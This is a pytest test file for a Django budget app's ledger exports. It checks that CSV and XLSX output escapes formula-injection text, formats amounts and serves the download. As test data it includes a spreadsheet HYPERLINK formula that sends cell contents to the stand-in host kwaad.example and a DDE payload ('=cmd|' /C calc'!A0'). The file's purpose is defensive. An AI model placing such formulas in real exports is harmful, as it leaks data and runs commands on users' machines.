"""The ledger exports (issue 5.10): formula-injection escaping, headers, amounts."""

import csv
import io
from datetime import date
from decimal import Decimal

from django.urls import reverse

import pytest
from openpyxl import load_workbook

from budget.exports import EURO_FORMAAT, cel, csv_regels, kolommen, xlsx_bestand
from budget.services import (
    bijdrage_toevoegen,
    toewijzing_beantwoorden,
    toewijzing_voorstellen,
    uitgave_boeken,
)
from opgaven.models import Betrokkenheid
from partners.models import Organisatie
from partners.services import organisatie_create
from tests.factories import UserFactory

D = Decimal

KOPPEN = [
    "Nr.",
    "Datum en tijd",
    "Door",
    "Gebeurtenis",
    "Omschrijving",
    "Organisatie",
    "Bedrag",
    "Bijgedragen na",
    "Toegewezen na",
    "Besteed na",
    "Beschikbaar na",
]
AANVAL = '=HYPERLINK("https://kwaad.example/?d="&A1,"Factuur")'
GEVAARLIJK = ("=", "+", "-", "@", "\t", "\r")


# --- cel(): pure ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("waarde", "verwacht"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 12345678", "'+31 6 12345678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (AANVAL, "'" + AANVAL),
    ],
)
def test_text_that_could_start_a_formula_gets_a_quote(waarde, verwacht):
    assert cel(waarde) == verwacht


@pytest.mark.parametrize(
    "waarde",
    ["Factuur 2026-014", "", "Gemeente Demodam", "a=b", " =1", "'=al veilig", "1+1"],
)
def test_other_text_is_left_alone(waarde):
    assert cel(waarde) == waarde


@pytest.mark.parametrize("waarde", [D("-12.50"), D("1234.56"), -3, 0, 1.5, None, date(2026, 3, 1)])
def test_numbers_dates_and_none_stay_what_they_are(waarde):
    # A negative amount is a number, not text: it must stay summable.
    assert cel(waarde) is waarde


# --- The files --------------------------------------------------------------------------


@pytest.fixture
def kwaadaardig_grootboek(budgetpot, actie, regisseur, gemeente, organisatie, partner_lid):
    """A ledger whose texts try formula injection: an expense's description, a person's
    display name and an organisation's name."""
    toewijzing = toewijzing_voorstellen(
        pot=budgetpot, actie=actie, bedrag=D("1234.56"), door=regisseur
    )
    for goedkeuring, door in (
        (toewijzing.goedkeuringen.get(organisatie=gemeente), regisseur),
        (toewijzing.goedkeuringen.get(organisatie=organisatie), partner_lid),
    ):
        toewijzing = toewijzing_beantwoorden(goedkeuring=goedkeuring, akkoord=True, door=door)
    hacker = UserFactory(weergavenaam="=cmd|' /C calc'!A0")
    uitgave_boeken(
        toewijzing=toewijzing,
        bedrag=D("100.10"),
        datum=date(2026, 3, 1),
        omschrijving=AANVAL,
        door=hacker,
    )
    plus = organisatie_create(naam="+Stichting Plus", soort=Organisatie.Soort.FONDS)
    Betrokkenheid.objects.create(
        opgave=budgetpot.opgave, organisatie=plus, aard=Betrokkenheid.Aard.LEVERT_MIDDELEN
    )
    bijdrage_toevoegen(
        pot=budgetpot,
        organisatie=plus,
        soort="geld",
        waarde=D("10"),
        door=regisseur,
        omschrijving="Klein",
    )
    budgetpot.refresh_from_db()
    return budgetpot


def _csv(pot) -> list[list[str]]:
    inhoud = "".join(csv_regels(pot))
    assert inhoud.startswith("\ufeff")
    return list(csv.reader(io.StringIO(inhoud[1:])))


@pytest.mark.django_db
def test_csv_headers_amounts_and_escaping(kwaadaardig_grootboek):
    rijen = _csv(kwaadaardig_grootboek)

    assert rijen[0] == KOPPEN
    assert kolommen() == KOPPEN
    assert [rij[0] for rij in rijen[1:]] == [str(n) for n in range(1, len(rijen))]
    # Amounts: plain numbers with a decimal point.
    assert rijen[1][6] == "50000.00"
    uitgave = next(rij for rij in rijen if AANVAL in rij[4])
    assert uitgave[6] == "100.10"
    assert uitgave[9] == "100.10"  # spent after
    assert uitgave[2] == "'=cmd|' /C calc'!A0"  # who: escaped
    # The organisation's name opens both its column and the description: escaped.
    plus = rijen[-1]
    assert plus[5] == "'+Stichting Plus"
    assert plus[4].startswith("'+Stichting Plus")
    # No text cell anywhere starts a formula.
    for rij in rijen:
        for waarde in rij:
            assert not waarde.startswith(GEVAARLIJK), (rij, waarde)


@pytest.mark.django_db
def test_xlsx_headers_amounts_as_euro_numbers_and_escaping(kwaadaardig_grootboek):
    blad = load_workbook(io.BytesIO(xlsx_bestand(kwaadaardig_grootboek))).active

    rijen = list(blad.iter_rows())
    assert [c.value for c in rijen[0]] == KOPPEN
    eerste = rijen[1]
    assert eerste[0].value == 1
    assert eerste[6].value == 50000
    assert eerste[6].data_type == "n"
    assert eerste[6].number_format == EURO_FORMAAT
    assert eerste[1].is_date
    uitgave = next(r for r in rijen if isinstance(r[4].value, str) and AANVAL in r[4].value)
    assert uitgave[6].value == pytest.approx(100.10)
    assert uitgave[2].value == "'=cmd|' /C calc'!A0"
    assert rijen[-1][5].value == "'+Stichting Plus"
    for rij in rijen:
        for c in rij:
            assert c.data_type != "f", c.coordinate  # no formula anywhere
            if isinstance(c.value, str):
                assert not c.value.startswith(GEVAARLIJK), (c.coordinate, c.value)


@pytest.mark.django_db
def test_the_xlsx_through_the_page(client, kwaadaardig_grootboek, regisseur):
    client.force_login(regisseur)
    response = client.get(
        reverse(
            "budget:grootboek_export",
            kwargs={"slug": kwaadaardig_grootboek.opgave.slug, "formaat": "xlsx"},
        )
    )
    # A FileResponse of a temporary file: streamed.
    blad = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert blad.max_row == kwaadaardig_grootboek.boekingen.count() + 1
    assert response["Content-Disposition"].startswith(
        'attachment; filename="grootboek-samen-van-het-gas-af-'
    )
    assert response["Content-Disposition"].endswith('.xlsx"')
